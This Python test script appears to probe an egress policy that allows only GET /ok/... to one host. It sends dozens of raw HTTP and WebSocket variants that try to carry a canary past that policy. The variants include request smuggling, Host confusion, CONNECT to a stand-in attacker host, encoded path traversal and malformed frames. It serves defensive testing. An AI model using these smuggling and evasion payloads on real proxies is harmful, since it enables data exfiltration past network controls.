"""HTTP on the allowed connection: http.py VARIANT. The path /ok/... with GET is what the policy allows, so that each
variant is wrong in one thing only."""

import base64
import os
import struct
import sys

from common import *

variant = sys.argv[1]
HOST = f"Host: {ALLOWED}\r\n"
OTHER = "Host: other.attacker.example\r\n"
FIRST = f"GET /ok/first HTTP/1.1\r\n{HOST}\r\n"
INNER = f"GET /{CANARY} HTTP/1.1\r\n{HOST}\r\n"


def chunk(text):
    return f"{len(text):x}\r\n{text}\r\n"


def websocket_frame(first=0x82, payload=BYTES, length=None):
    """Masked with zeros: what a lenient server would read is in the bytes as they are."""
    return bytes([first]) + (length or bytes([0x80 | len(payload)])) + b"\0\0\0\0" + payload


def header(line):
    return [f"GET /ok/1 HTTP/1.1\r\n{HOST}{line}\r\n\r\n"]


def websocket(*frames, more=""):
    """An upgrade that the policy allows, and then what no WebSocket peer may send."""
    return [f"GET /ok/socket HTTP/1.1\r\n{HOST}{UPGRADE}{more}\r\n", *frames]


UPGRADE = f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\n"

# Each variant: the messages in order; the answer to one is read before the next goes.
VARIANTS = {
    "other-host": [f"GET /ok/{CANARY} HTTP/1.1\r\n{OTHER}\r\n"],
    "second-other-host": [FIRST, f"GET /ok/{CANARY} HTTP/1.1\r\n{OTHER}\r\n"],
    "pipelined-other-host": [FIRST + f"GET /ok/{CANARY} HTTP/1.1\r\n{OTHER}\r\n"],
    "second-other-path": [FIRST, INNER],
    "two-hosts": [f"GET /ok/{CANARY} HTTP/1.1\r\n{HOST}{OTHER}\r\n"],
    "two-hosts-reversed": [f"GET /ok/{CANARY} HTTP/1.1\r\n{OTHER}{HOST}\r\n"],
    "no-host": [f"GET /ok/{CANARY} HTTP/1.1\r\n\r\n"],
    "host-port": [f"GET /ok/{CANARY} HTTP/1.1\r\nHost: {ALLOWED}:8443\r\n\r\n"],
    "host-userinfo": [f"GET /ok/{CANARY} HTTP/1.1\r\nHost: other.attacker.example@{ALLOWED}\r\n\r\n"],
    "absolute-form": [f"GET https://other.attacker.example/ok/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "absolute-form-http": [f"GET http://{ALLOWED}/ok/{CANARY} HTTP/1.1\r\n{OTHER}\r\n"],
    "method": [f"POST /ok/{CANARY} HTTP/1.1\r\n{HOST}Content-Length: 0\r\n\r\n"],
    "method-override": [f"{CANARY.upper()} /ok/x HTTP/1.1\r\n{HOST}\r\n"],
    "path": [INNER],
    "path-dots": [f"GET /ok/../{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-encoded-dots": [f"GET /ok/%2e%2e/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-double-encoded": [f"GET /ok/%252e%252e%252f{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-backslash": [f"GET /ok/..\\{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-fragment": [f"GET /ok/x#{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "connect": [f"CONNECT {CANARY}.attacker.example:443 HTTP/1.1\r\nHost: {CANARY}.attacker.example:443\r\n\r\n"],
    "trace": [f"TRACE /ok/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "cl-te": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Length: {len(INNER) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{INNER}"],
    "te-twice": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n{chunk(INNER)}0\r\n\r\n"],
    "te-space": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding : chunked\r\nContent-Length: {len(INNER)}\r\n\r\n{INNER}"],
    "te-unknown": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: xchunked\r\nContent-Length: {len(INNER)}\r\n\r\n{INNER}"],
    "cl-twice": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Length: 0\r\nContent-Length: {len(INNER)}\r\n\r\n{INNER}"],
    "cl-sign": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Length: +{len(INNER)}\r\n\r\n{INNER}"],
    "cl-list": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Length: {len(INNER)}, {len(INNER)}\r\n\r\n{INNER}"],
    "obs-fold": [f"GET /ok/1 HTTP/1.1\r\n{HOST}X-A: b\r\n {CANARY}\r\n\r\n"],
    "nul-header": [f"GET /ok/1 HTTP/1.1\r\n{HOST}X-A: b\0{CANARY}\r\n\r\n"],
    "cr-header": [f"GET /ok/1 HTTP/1.1\r\n{HOST}X-A: b\rX-B: {CANARY}\r\n\r\n"],
    "header-name": [f"GET /ok/1 HTTP/1.1\r\n{HOST}X({CANARY}): b\r\n\r\n"],
    "chunk-extension": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n3;{CANARY}={CANARY}\r\nabc\r\n0\r\n\r\n"],
    "chunk-size": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n0x3\r\n{CANARY}\r\n0\r\n\r\n"],
    "trailer": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n3\r\nabc\r\n0\r\nX-T: {CANARY}\r\n\r\n"],
    "hop-by-hop": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Connection: X-Hop\r\nX-Hop: {CANARY}\r\nKeep-Alive: {CANARY}\r\n\r\n"],
    "proxy-header": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Proxy-Authorization: Basic {CANARY}\r\nProxy-Connection: {CANARY}\r\n\r\n"],
    "te-header": [f"GET /ok/1 HTTP/1.1\r\n{HOST}TE: {CANARY}\r\n\r\n"],
    "upgrade-h2c": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: {CANARY}\r\n\r\n"],
    "upgrade-unknown": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Connection: Upgrade\r\nUpgrade: {CANARY}\r\n\r\n" + CANARY],
    "websocket-path": [f"GET /{CANARY} HTTP/1.1\r\n{HOST}{UPGRADE}\r\n", websocket_frame()],
    "http2-preface": ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0" + CANARY],
    "http-0.9": [f"GET /ok/{CANARY}\r\n"],
    "http-1.2": [f"GET /ok/{CANARY} HTTP/1.2\r\n{HOST}\r\n"],
    "http-10-no-host": [f"GET /ok/{CANARY} HTTP/1.0\r\n\r\n"],
    "after-close": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Connection: close\r\n\r\n{CANARY}"],
    "body-of-nothing": [FIRST + CANARY],
    "doh-get": [f"GET /ok/dns-query?dns={CANARY} HTTP/1.1\r\n{HOST}Accept: application/dns-message\r\n\r\n"],
    "path-half-encoded-dots": [f"GET /ok/.%2e/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-encoded-slash-dots": [f"GET /ok/..%2f{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-encoded-backslash-dots": [f"GET /ok/..%5c{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-parameter-dots": [f"GET /ok/..;/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-overlong-dots": [f"GET /ok/%c0%ae%c0%ae/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-triple-encoded": [f"GET /ok/%25252e%25252e/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-nul": [f"GET /ok/x%00{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-empty-segments": [f"GET //ok/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "header-any": header(f"X-Any: {CANARY}"),
    "header-name-any": header(f"X-{CANARY}: 1"),
    "header-cookie": header(f"Cookie: a={CANARY}"),
    "header-user-agent": header(f"User-Agent: {CANARY}"),
    "header-referer": header(f"Referer: https://{ALLOWED}/{CANARY}"),
    "header-authorization": header(f"Authorization: Bearer {CANARY}"),
    "header-content-type": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Type: text/{CANARY}; charset={CANARY}\r\nContent-Length: 1\r\n\r\nx"],
    "header-content-encoding": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Encoding: {CANARY}\r\nContent-Length: 1\r\n\r\nx"],
    "header-content-anything": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Location: /{CANARY}\r\nContent-Length: 1\r\n\r\nx"],
    "header-expect": header(f"Expect: {CANARY}"),
    "header-via": header(f"Via: 1.1 {CANARY}"),
    "header-forwarded": header(f"Forwarded: for={CANARY}\r\nX-Forwarded-For: {CANARY}"),
    "header-range": header(f"Range: {CANARY}=0-1"),
    "header-priority": header(f"Priority: u=1, {CANARY}"),
    "header-upgrade-insecure": header(f"Upgrade-Insecure-Requests: {CANARY}"),
    "header-sec-fetch": header(f"Sec-Fetch-Mode: {CANARY}"),
    "header-date": header(f"Date: {CANARY}"),
    "header-max-forwards": header(f"Max-Forwards: {CANARY}"),
    "websocket-key": [f"GET /ok/socket HTTP/1.1\r\n{HOST}{UPGRADE.rsplit('Sec-WebSocket-Key', 1)[0]}Sec-WebSocket-Key: {CANARY.ljust(21, 'A')}A==\r\n\r\n"],
    "websocket-protocol": websocket(more=f"Sec-WebSocket-Protocol: {CANARY}\r\n"),
    "websocket-extensions": websocket(more=f"Sec-WebSocket-Extensions: {CANARY}\r\n"),
    "websocket-version": [f"GET /ok/socket HTTP/1.1\r\n{HOST}{UPGRADE.replace('Version: 13', 'Version: ' + CANARY)}\r\n"],
    "websocket-unmasked": websocket(b"\x81" + bytes([len(BYTES)]) + BYTES),
    "websocket-reserved-opcode": websocket(websocket_frame(0x83)),
    "websocket-reserved-bits": websocket(websocket_frame(0xC1)),
    "websocket-long-control": websocket(websocket_frame(0x89, BYTES.ljust(126, b"."), b"\xfe\0\x7e")),
    "websocket-fragmented-control": websocket(websocket_frame(0x09)),
    "websocket-continuation-first": websocket(websocket_frame(0x80)),
    "websocket-after-close": websocket(websocket_frame(0x88, b"") + websocket_frame(0x81)),
    "websocket-close-code": websocket(websocket_frame(0x88, b"\x03\xed" + BYTES)),
    "websocket-long-length": websocket(websocket_frame(0x81, BYTES, b"\xff" + struct.pack("!Q", 1 << 63 | len(BYTES)))),
    "websocket-not-frames": websocket(BYTES + b"\r\n"),
    "plain-on-443": [f"GET /ok/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "plain-on-80": [f"GET /ok/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
}


def run():
    sock = connect_name(ALLOWED, 80 if variant == "plain-on-80" else 443)
    if not variant.startswith("plain-on"):
        sock = tls(sock, ALLOWED)
    with sock:
        for message in VARIANTS[variant]:
            sock.sendall(message if isinstance(message, bytes) else message.encode("latin-1"))
            notes.append(drain(sock)[:160].decode("latin-1"))


attempt(variant, run)
finish()
